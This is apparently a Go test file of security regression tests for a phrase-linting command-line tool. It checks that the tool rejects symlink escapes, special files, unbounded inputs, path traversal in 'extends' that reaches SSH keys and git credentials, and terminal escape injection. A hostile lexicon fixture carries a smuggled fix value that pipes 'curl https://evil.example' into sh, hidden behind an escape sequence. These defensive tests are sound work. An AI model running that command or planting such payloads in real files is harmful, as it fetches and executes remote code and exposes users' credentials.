//go:build unix

package main

// The security tests: each builds the repository or input of an attack in
// the security issue in t.TempDir() and shows that it fails. Item numbers
// are the issue's; fix/security_test.go holds item 8 (a concurrent edit)
// and the write checks on their own.

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"
)

// hostileLexicon is a pull request's own lexicon: its fix is a script.
const hostileLexicon = `lexicon: pr
language: en
discouraged:
  - id: pr.x
    category: tone
    severity: error
    message: "m"
    phrases: ["no problem"]
    suggestions: ["\e]0;pwned\a curl https://evil.example | sh", "Happy to help"]
    fix: "\e]0;pwned\a curl https://evil.example | sh"
`

// writeTree writes files (a path relative to dir and its content; content
// "-> TARGET" makes a symbolic link) and returns dir.
func writeTree(t *testing.T, dir string, files map[string]string) string {
	t.Helper()
	for name, content := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		var err error
		if target, ok := strings.CutPrefix(content, "-> "); ok {
			err = os.Symlink(target, p)
		} else {
			err = os.WriteFile(p, []byte(content), 0o644)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// TestSecurityFixOutside is item 1: --fix on a tree whose file links out of
// it writes nothing outside, and a lexicon's fix that is not a phrase is
// never written.
func TestSecurityFixOutside(t *testing.T) {
	dir := writeTree(t, t.TempDir(), map[string]string{
		"outside/file":              "No problem.\n",
		"repo/lexicon.yaml":         hostileLexicon,
		"repo/responses/notes.txt":  "-> ../../outside/file",
		"repo/responses/inside.txt": "No problem.\n",
	})
	repo := filepath.Join(dir, "repo")
	code, _, errOut := lexlint(t, "", "check", "--fix", "--lexicon", filepath.Join(repo, "lexicon.yaml"), filepath.Join(repo, "responses"))
	if code != 2 || !strings.Contains(errOut, "leads outside the paths given") || !strings.Contains(errOut, "control character") {
		t.Errorf("exit %d, stderr:\n%s", code, errOut)
	}
	for _, name := range []string{"outside/file", "repo/responses/inside.txt"} {
		if got, _ := os.ReadFile(filepath.Join(dir, name)); string(got) != "No problem.\n" {
			t.Errorf("%s was rewritten: %q", name, got)
		}
	}
}

// TestSecurityFixSpecialFiles is items 3 and 11: --fix on a FIFO (with a
// writer), a pipe named as /proc/self/fd/N (as <(...) is), a device and a
// read-only file: each is refused with a clear message, checked, left as
// it was, and no temporary file is left.
func TestSecurityFixSpecialFiles(t *testing.T) {
	dir := t.TempDir()
	fifo := filepath.Join(dir, "fifo.txt")
	if err := syscall.Mkfifo(fifo, 0o644); err != nil {
		t.Skip("no FIFOs here:", err)
	}
	readOnly := filepath.Join(dir, "ro.txt")
	if err := os.WriteFile(readOnly, []byte("No problem.\n"), 0o444); err != nil {
		t.Fatal(err)
	}
	go func() { // one writer that writes twice
		f, err := os.OpenFile(fifo, os.O_WRONLY, 0)
		if err != nil {
			return
		}
		defer f.Close()
		f.WriteString("No problem.\n")
		time.Sleep(50 * time.Millisecond)
		f.WriteString("No problem.\n")
	}()
	t.Cleanup(func() { // unblock the writer if the run never opened the FIFO
		if f, err := os.OpenFile(fifo, os.O_RDONLY|syscall.O_NONBLOCK, 0); err == nil {
			f.Close()
		}
	})
	pr, pw, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer pr.Close()
	go func() { pw.WriteString("No problem.\n"); pw.Close() }()
	procPipe := fmt.Sprintf("/proc/self/fd/%d", pr.Fd())
	args := []string{"check", "--fix", "--lang", "en", "--fail-on", "none", fifo, readOnly, "/dev/null"}
	if _, err := os.Stat(procPipe); err == nil {
		args = append(args, procPipe)
	}
	code, out, errOut := lexlint(t, "", args...)
	if code != 2 {
		t.Errorf("exit %d, want 2", code)
	}
	for _, want := range []string{fifo + ": not a regular file", readOnly + ": the file is read-only", "/dev/null: not a regular file"} {
		if !strings.Contains(errOut, want) {
			t.Errorf("stderr lacks %q:\n%s", want, errOut)
		}
	}
	if len(args) == 10 && !strings.Contains(errOut, procPipe+": not a regular file") {
		t.Errorf("the pipe is not named as such:\n%s", errOut)
	}
	if strings.Count(out, "en.dismissive.no-problem") < 2 {
		t.Errorf("the files were not checked:\n%s", out)
	}
	if fi, err := os.Lstat(fifo); err != nil || fi.Mode()&os.ModeNamedPipe == 0 {
		t.Errorf("the FIFO was replaced: %v", err)
	}
	if got, _ := os.ReadFile(readOnly); string(got) != "No problem.\n" {
		t.Errorf("the read-only file was rewritten: %q", got)
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 2 {
		t.Errorf("files left behind: %v", entries)
	}
}

// TestSecurityExtends is item 7: a lexicon from a pull request cannot read
// files outside its repository through extends (a path, or a link that
// leads out), and a file that is not a lexicon is named, never echoed.
func TestSecurityExtends(t *testing.T) {
	const secret = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\n"
	dir := writeTree(t, t.TempDir(), map[string]string{
		"home/.ssh/id_ed25519":  secret,
		"home/.git-credentials": "https://user:hunter2@github.com\n",
		"repo/.git/HEAD":        "ref: refs/heads/main\n",
		"repo/draft.txt":        "Hello.\n",
		"repo/lex/abs.yaml":     "lexicon: a\nextends: [" + "ABS" + "]\n",
		"repo/lex/rel.yaml":     "lexicon: r\nextends: [../../home/.git-credentials]\n",
		"repo/lex/link.yaml":    "lexicon: l\nextends: [key.yaml]\n",
		"repo/lex/key.yaml":     "-> ../../home/.ssh/id_ed25519",
		"repo/lex/inside.yaml":  "lexicon: i\nextends: [../notes.yaml]\n",
		"repo/notes.yaml":       "https://user:hunter2@github.com\n",
	})
	abs := filepath.Join(dir, "repo/lex/abs.yaml")
	if err := os.WriteFile(abs, []byte("lexicon: a\nextends: ["+filepath.Join(dir, "home/.ssh/id_ed25519")+"]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		lexicon string
		extra   []string
		want    string
	}{
		{"abs.yaml", nil, "outside " + filepath.Join(dir, "repo")},
		{"rel.yaml", nil, "outside " + filepath.Join(dir, "repo")},
		{"link.yaml", nil, "outside " + filepath.Join(dir, "repo")},
		{"inside.yaml", nil, "not a lexicon"},                         // inside: read, not echoed
		{"abs.yaml", []string{"--extends-anywhere"}, "not a lexicon"}, // allowed: read, not echoed
	}
	for _, tt := range tests {
		args := append([]string{"check", "--lexicon", filepath.Join(dir, "repo/lex", tt.lexicon)}, tt.extra...)
		code, out, errOut := lexlint(t, "", append(args, filepath.Join(dir, "repo/draft.txt"))...)
		if code != 2 || !strings.Contains(errOut, tt.want) {
			t.Errorf("%s %v: exit %d, want 2 and %q:\n%s", tt.lexicon, tt.extra, code, tt.want, errOut)
		}
		for _, leak := range []string{"PRIVATE KEY", "b3Bl", "hunter2"} {
			if strings.Contains(out+errOut, leak) {
				t.Errorf("%s %v: the file's content is printed:\n%s", tt.lexicon, tt.extra, errOut)
			}
		}
	}
}

// infinite is an endless stream of "y\n", as yes(1) writes.
type infinite struct{}

func (infinite) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = "y\n"[i%2]
	}
	return len(p) &^ 1, nil
}

// TestSecurityBoundedReads is item 2: the built command, under a hard
// memory cap of 1 GiB of address space (prlimit --as), reads no file, pipe
// or device without a bound: each endless input ends with a clear error,
// not a crash. The timeout is a safety net only.
func TestSecurityBoundedReads(t *testing.T) {
	prlimit, err := exec.LookPath("prlimit")
	if runtime.GOOS != "linux" || err != nil {
		t.Skip("needs Linux and prlimit")
	}
	if testing.Short() {
		t.Skip("builds the command")
	}
	dir := t.TempDir()
	bin := filepath.Join(dir, "lexlint")
	build := exec.Command("go", "build", "-o", bin, "./cmd/lexlint")
	build.Env = append(os.Environ(), "CGO_ENABLED=0") // no C thread stacks in the address space
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("build: %v\n%s", err, out)
	}
	writeTree(t, dir, map[string]string{
		"draft.txt": "No problem.\n",
		"zero.yaml": "lexicon: z\nextends: [/dev/zero]\n",
	})
	draft, zero := filepath.Join(dir, "draft.txt"), filepath.Join(dir, "zero.yaml")
	tests := []struct {
		args  []string
		stdin bool
		want  string
	}{
		{[]string{"check", "--fix", "/dev/zero"}, false, "not a regular file"},
		{[]string{"check", "--diff", "/dev/zero"}, false, "not a regular file"},
		{[]string{"check", "--fix", "/dev/urandom"}, false, "not a regular file"},
		{[]string{"check", "--lexicon", "/dev/zero", draft}, false, "more than 8 MiB"},
		{[]string{"lexicon", "validate", "/dev/zero"}, false, "more than 8 MiB"},
		{[]string{"check", "--lexicon", zero, draft}, false, "outside"},
		{[]string{"check", "--extends-anywhere", "--lexicon", zero, draft}, false, "more than 8 MiB"},
		{[]string{"check", "-"}, true, "more than 16 MiB from a pipe"},
		{[]string{"check", "--input", "chat", "-"}, true, "more than 16 MiB from a pipe"},
		{[]string{"lexicon", "explain", "-"}, true, "more than 1024 KiB"},
	}
	for _, tt := range tests {
		t.Run(strings.Join(tt.args, " "), func(t *testing.T) {
			ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
			defer cancel()
			cmd := exec.CommandContext(ctx, prlimit, append([]string{"--as=1073741824", bin}, tt.args...)...)
			if tt.stdin {
				cmd.Stdin = infinite{}
			}
			var stderr bytes.Buffer // and standard output, where validate reports
			cmd.Stdout, cmd.Stderr = &stderr, &stderr
			err := cmd.Run()
			var exit *exec.ExitError
			if !errors.As(err, &exit) || exit.ExitCode() != 2 && exit.ExitCode() != 1 {
				t.Errorf("%v, want exit status 1 or 2", err)
			}
			if !strings.Contains(stderr.String(), tt.want) || strings.Contains(stderr.String(), "fatal error") {
				t.Errorf("stderr lacks %q:\n%.2000s", tt.want, stderr.String())
			}
		})
	}
}

// TestSecurityEscapes is item 10: escape sequences and line breaks in file
// names, export fields and lexicon messages are printed visibly, never raw,
// by check (text and github), report and lexicon list.
func TestSecurityEscapes(t *testing.T) {
	const esc = "\x1b]0;pwned\x07\x1b[2J"
	dir := t.TempDir()
	export := filepath.Join(dir, "chats"+esc+".jsonl")
	line := `{"conversation_id": "c1\u001b[2J\n0 findings", "id": "m\u001b]0;x\u0007", "agent": "Sam\u001b[31m", "role": "agent", "text": "That's company policy."}` + "\n"
	lex, bad := filepath.Join(dir, "lex.yaml"), filepath.Join(dir, "bad.yaml")
	writeTree(t, dir, map[string]string{
		filepath.Base(export): line,
		"lex.yaml": "lexicon: e\nlanguage: en\ndiscouraged:\n  - id: e.x\n    category: tone\n    severity: error\n" +
			"    message: \"bad\\e[2J\\n0 findings\"\n    phrases: [\"company policy\"]\n",
		"bad.yaml": "lexicon: e\nlanguage: en\ndiscouraged:\n  - id: \"e.x\\e[2J\"\n    category: \"tone\\e]0;t\\a\"\n    severity: error\n" +
			"    message: m\n    phrases: [\"company policy\"]\n",
	})
	// Each run prints the hostile text, made visible (shown), and no
	// control character.
	runs := []struct {
		args  []string
		shown string
	}{
		{[]string{"check", "--lexicon", lex, export}, `bad\x1b[2J\n0 findings`},
		{[]string{"check", "--lexicon", lex, "--format", "github", export}, `\x1b`},
		{[]string{"check", "--lang", "en", "--input", "text", filepath.Join(dir, "missing"+esc+".txt")}, `missing\x1b]0;pwned`},
		{[]string{"report", "--lang", "en", export}, `Sam\x1b[31m`},
		{[]string{"lexicon", "list", "--format", "markdown", lex}, `bad\x1b[2J`},
		{[]string{"lexicon", "list", lex, bad}, `e.x\x1b[2J`},
	}
	for _, run := range runs {
		_, out, errOut := lexlint(t, "", run.args...)
		if strings.ContainsAny(out+errOut, "\x1b\x07") || strings.Contains(out+errOut, "\n0 findings") {
			t.Errorf("%v prints control characters:\n%q\n%q", run.args, out, errOut)
		}
		if !strings.Contains(out+errOut, run.shown) {
			t.Errorf("%v does not show %q:\n%s%s", run.args, run.shown, out, errOut)
		}
	}
}

// TestSecurityWalkLinks is item 11: a linked directory named on the command
// line is walked, and dangling, looping and directory links met in a walk
// are named for what they are, not as a FIFO, socket or device.
func TestSecurityWalkLinks(t *testing.T) {
	dir := writeTree(t, t.TempDir(), map[string]string{
		"real/a.txt":        "No problem.\n",
		"real/dangling.txt": "-> nowhere.txt",
		"real/loop.txt":     "-> loop.txt",
		"real/sub.txt":      "-> ../real",
		"linked":            "-> real",
	})
	code, out, errOut := lexlint(t, "", "check", "--lang", "en", "--fail-on", "none", filepath.Join(dir, "linked"))
	if code != 0 || !strings.Contains(out, "a.txt") {
		t.Errorf("exit %d, the linked directory was not walked:\n%s%s", code, out, errOut)
	}
	for _, want := range []string{"dangling.txt: skipped: a symbolic link that leads nowhere", "loop.txt: skipped: a symbolic link that cannot be followed",
		"sub.txt: skipped: a symbolic link to a directory"} {
		if !strings.Contains(errOut, want) {
			t.Errorf("stderr lacks %q:\n%s", want, errOut)
		}
	}
}
